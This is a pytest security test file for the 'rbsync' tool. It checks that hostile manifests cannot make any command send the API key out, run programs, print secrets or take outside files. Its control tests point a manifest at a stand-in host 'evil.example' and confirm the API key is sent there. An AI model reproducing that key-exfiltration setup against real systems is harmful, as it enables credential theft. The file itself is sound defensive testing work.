"""Each attack against each command: nothing leaves, nothing is printed, no program is run."""

from __future__ import annotations

import json
import sys
from collections import deque

import pytest

from rbsync.errors import ExitCode
from tests import schemas
from tests.trust.attacks import ATTACKS, IDS, PICTURES, redbrick
from tests.trust.commands import (
    NO_MANIFEST,
    READS_NO_MANIFEST,
    arguments_of,
    commands,
)
from tests.trust.site import CANARIES, KEY, Site

_opened: deque[str] = deque(maxlen=1_000)


def _watch(event: str, arguments: tuple[object, ...]) -> None:
    if event == "open":
        _opened.append(str(arguments[0]))


sys.addaudithook(_watch)


def test_every_command_of_the_program_is_attacked() -> None:
    known = {one for one in schemas.commands() if one.split()[0] not in NO_MANIFEST}
    assert known <= set(commands())


@pytest.mark.parametrize("words", commands())
def test_every_command_ends_by_itself_as_it_is_run_here(site: Site, words: str) -> None:
    """One that waits for ever needs other arguments, in `tests.trust.commands`."""
    assert site.run(*arguments_of(words)).code != ExitCode.INTERRUPTED


def test_every_command_reads_the_manifest_as_it_is_run_here(site: Site) -> None:
    """One that ends at its own arguments would be attacked by nothing."""
    silent = set()
    for words in commands():
        _opened.clear()
        ran = site.run(*arguments_of(words))
        assert ran.code != ExitCode.USAGE, (words, ran)
        if not any(one.endswith("rbsync.yaml") for one in _opened):
            silent.add(words)
    assert silent == READS_NO_MANIFEST


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_had_by(site: Site, attack: str) -> None:
    ATTACKS[attack](site)
    for words in commands():
        ran = site.run(*arguments_of(words))
        assert site.leaks(ran) == [], (words, ran)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_had_from_an_untrusted_run_by(site: Site, attack: str) -> None:
    ATTACKS[attack](site)
    for words in commands():
        ran = site.run(*arguments_of(words), RBSYNC_UNTRUSTED="1")
        assert site.leaks(ran) == [], (words, ran)


class TestTheTestsWouldTell:
    """What the trusted side allows does happen here, and is seen."""

    def test_of_a_key_that_is_sent(self, site: Site) -> None:
        url = f"https://evil.example:{site.ears.secure}"
        site.manifest(redbrick(url))
        ran = site.run("plan", "--url", url)
        assert ran.code == 9
        assert f"ApiKey: {KEY}" in site.ears.heard.text()
        assert "evil.example" in site.ears.heard.lookups
        assert "RBSYNC_API_KEY was sent" in site.leaks(ran)

    def test_of_a_program_that_is_run(self, site: Site) -> None:
        site.manifest(f"backend: {{kind: redbrick, {IDS}}}\n{PICTURES}")
        url = f"http://127.0.0.1:{site.ears.plain}"
        script = f"touch {site.marker}"
        site.run("plan", "--url", url, RBSYNC_API_KEY="", RBSYNC_API_KEY_COMMAND=script)
        assert site.marker.exists()
        assert len(site.started) >= 1

    def test_of_a_variable_that_is_printed(self, site: Site) -> None:
        site.manifest("datapoints: [{name: '${HARMLESS}', items: [images/a.png]}]\n")
        ran = site.run("expand", "--env", "HARMLESS")
        assert ran.out == CANARIES["HARMLESS"] + "\n"
        assert site.leaks(ran) == ["HARMLESS was printed"]

    def test_of_a_file_that_is_taken(self, site: Site) -> None:
        path = str(site.outside / "secret.png")
        entry = json.dumps({"name": "a", "items": [path]})
        site.manifest(f"roots: [{site.outside}]\nfiles: {{check: none}}\ndatapoints: [{entry}]\n")
        ran = site.run("apply", "--yes", "--root", str(site.outside))
        assert ran.code == 0, ran.err
        assert any("a file from outside was written to" in one for one in site.leaks(ran))
